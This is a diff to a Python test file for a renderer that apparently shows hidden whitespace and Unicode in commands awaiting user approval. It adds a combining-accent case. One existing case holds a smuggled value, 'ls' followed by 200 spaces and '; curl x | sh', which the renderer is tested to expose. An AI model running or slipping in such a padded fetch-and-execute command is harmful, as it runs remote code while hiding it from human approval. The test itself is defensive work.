@@ -31,6 +31,7 @@ from mimo_magics.document.approval_text import (
         ('{"cmd": "\\u006c\\u0073"}', '{\n  "cmd": "ls"\n}'),
         ('{"cmd": "ls' + " " * 200 + '; curl x | sh"}', '{\n  "cmd": "ls⟨blanks: 200⟩; curl x | sh"\n}'),
         ('{"cmd": "ls' + "\u3000" * 9 + '"}', '{\n  "cmd": "ls⟨U+3000 × 9⟩"\n}'),
+        ('{"cmd": "e\u0301"}', '{\n  "cmd": "e\u0301"\n}'),
         ('{"cmd": "a\u00a0b"}', '{\n  "cmd": "a⟨U+00A0⟩b"\n}'),
         ('{"cmd": "a\\tb"}', '{\n  "cmd": "a\\tb"\n}'),
         ('{"cmd": "a\\nb"}', '{\n  "cmd": "a\\nb"\n}'),
